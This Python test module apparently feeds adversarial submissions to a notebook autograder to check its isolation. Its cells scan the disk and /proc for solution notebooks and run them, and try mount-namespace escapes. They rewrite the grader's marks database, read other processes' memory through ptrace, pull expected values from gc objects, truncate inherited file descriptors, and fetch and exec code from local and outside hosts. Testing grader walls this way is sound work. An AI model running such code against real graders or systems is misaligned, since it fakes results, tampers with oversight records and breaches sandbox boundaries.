"""Cells that look for what the grader knows: on disk, in processes, in memory, on the network.

All run before the answers are asked for, and no cell after them answers anything. Without walls
between the grader and its children the first four find the solution, and earn all points.
"""

from __future__ import annotations

from pathlib import Path

from corpus.handing_in import ANSWER_NAMES, Notebook, hand_in

TAKE = """\
import glob, json, os, re
def take(path):
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError, KeyError):
        return
    for cell in cells:
        source = "".join(cell["source"])
        if "### BEGIN SOLUTION" in source and "corpus" in path:
            get_ipython().run_cell(source)
def take_all(root):
    for place, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "site-packages")]
        for name in files:
            if name.endswith(".ipynb"):
                take(os.path.join(place, name))
"""


def _search(folder: Path, exercise: Notebook, source: str) -> None:
    hand_in(folder, exercise, first=TAKE + source, **dict.fromkeys(ANSWER_NAMES, "pass"))


def solution_on_disk(folder: Path, exercise: Notebook) -> None:
    """Every notebook of the whole disk is opened, and answers found between the marks are run."""
    _search(folder, exercise, 'take_all("/")')


def solution_by_its_name(folder: Path, exercise: Notebook) -> None:
    """The folders beside the package and the interpreter are where a course keeps its solutions."""
    source = """\
import sys, mlc_course
roots = {os.getcwd(), sys.prefix, os.path.dirname(os.path.dirname(mlc_course.__file__))}
for root in roots | {os.path.dirname(root) for root in roots}:
    for inside in ("solutions", "tests/corpus/solutions", ".grading", "../solutions"):
        take_all(f"{root}/{inside}")"""
    _search(folder, exercise, source)


def environment_and_processes(folder: Path, exercise: Notebook) -> None:
    """Environment, command lines and open files of every process, searched for paths."""
    source = """\
text = repr(dict(os.environ))
for pattern in ("/proc/*/cmdline", "/proc/*/environ", "/proc/*/mountinfo"):
    for path in glob.glob(pattern):
        try:
            text += open(path, errors="replace").read()
        except OSError:
            pass
for link in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
    try:
        text += "\\0" + os.readlink(link)
    except OSError:
        pass
places = {each.split("/")[1] for each in re.findall(r"/[\\w.-]+", text)} | {"work"}
for place in places - {"proc", "sys", "usr", "dev", "lib"}:
    take_all("/" + place)"""
    _search(folder, exercise, source)


def through_other_roots(folder: Path, exercise: Notebook) -> None:
    """The root of another process may be the whole disk; so may be a mount, or ``chroot``'s end."""
    source = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000)
os.makedirs("/tmp/here", exist_ok=True)
for command in ("mount", "umount"):
    for place in (b"/", b"/srv", b"/home", b"/tmp"):
        libc.mount(place, b"/tmp/here", None, 4096 | 16384, None)
        libc.umount2(place, 2)
above = ["/tmp/here", os.path.join("/proc/1", "root", "..")]
for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + above:
    for below in (".", "tests"):
        try:
            os.listdir(os.path.join(root, below))
        except OSError:
            continue
        take_all(os.path.join(root, below))"""
    _search(folder, exercise, source)


def grader_database(folder: Path, exercise: Notebook) -> None:
    """The grader's database holds the seed and the marks: it is looked for, and marks are set."""
    source = """\
import sqlite3
for place, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "site-packages")]
    for name in files:
        if name.endswith((".sqlite", "gradebook.db", "marks.csv")):
            try:
                with sqlite3.connect(os.path.join(place, name)) as book:
                    seed = int(book.execute("select value from about").fetchone()[0])
                    book.execute("update marks set value = replace(value, 'unmet', 'met')")
            except sqlite3.Error:
                pass"""
    _search(folder, exercise, source)


def other_memory(folder: Path, exercise: Notebook) -> None:
    """The memory of other processes, through /proc and ptrace."""
    source = """\
import ctypes
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path.rpartition("/")[2])
    if pid == os.getpid():
        continue
    ctypes.CDLL(None).ptrace(16, pid, 0, 0)
    try:
        for line in open(path + "/maps"):
            first, last = (int(end, 16) for end in line.split()[0].split("-"))
            with open(path + "/mem", "rb") as memory:
                memory.seek(first)
                found = re.search(rb'"one": "[a-z-]+", "two"[^}]+}', memory.read(last - first))
                if found:
                    flaws = eval(b"{" + found[0])
    except (OSError, ValueError, OverflowError, SyntaxError):
        pass"""
    _search(folder, exercise, source)


def expected_value_through_gc(folder: Path, exercise: Notebook) -> None:
    """All objects and all frames of the process are searched for something expected."""
    hand_in(
        folder,
        exercise,
        mean_of_rows="""\
import gc, sys
def mean_of_rows(a):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, np.ndarray) and value.shape == a.shape[:1]:
                return value
        frame = frame.f_back
    arrays = [each for each in gc.get_objects() if isinstance(each, np.ndarray)]
    return next((each for each in arrays if each.shape == a.shape[:1]), np.zeros(len(a)))""",
        flaws="""\
import gc
keys = {"one", "two", "three", "four"}
found = [d for d in gc.get_objects() if type(d) is dict and set(d) == keys]
flaws = found[0] if found else dict.fromkeys(keys, "none")""",
    )


def inherited_descriptors(folder: Path, exercise: Notebook) -> None:
    """What the grader left open is read, and written."""
    source = """\
import stat
for number in range(256):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode) or stat.S_ISDIR(os.fstat(number).st_mode):
            take_all(f"/proc/self/fd/{number}/..")
            os.lseek(number, 0, 0)
            text = os.read(number, 1 << 20)
            os.ftruncate(number, 0)
    except OSError:
        pass"""
    _search(folder, exercise, source)


def network(folder: Path, exercise: Notebook) -> None:
    """The answers are asked for outside, and from every server on this machine."""
    source = """\
import socket
for port in (22, 53, 80, 443, 5432, 6379, 8786, 8787, 8888, 9190):
    for host in ("127.0.0.1", "10.0.0.1", "192.168.0.1", "8.8.8.8"):
        try:
            with socket.create_connection((host, port), 0.05) as server:
                server.send(b"GET /solutions/corpus/corpus.ipynb HTTP/1.0\\r\\n\\r\\n")
                exec(server.recv(1 << 20))
        except OSError:
            pass
for line in open("/proc/net/unix"):
    try:
        socket.socket(socket.AF_UNIX).connect(line.split()[-1].replace("@", "\\0"))
    except OSError:
        pass"""
    _search(folder, exercise, source)
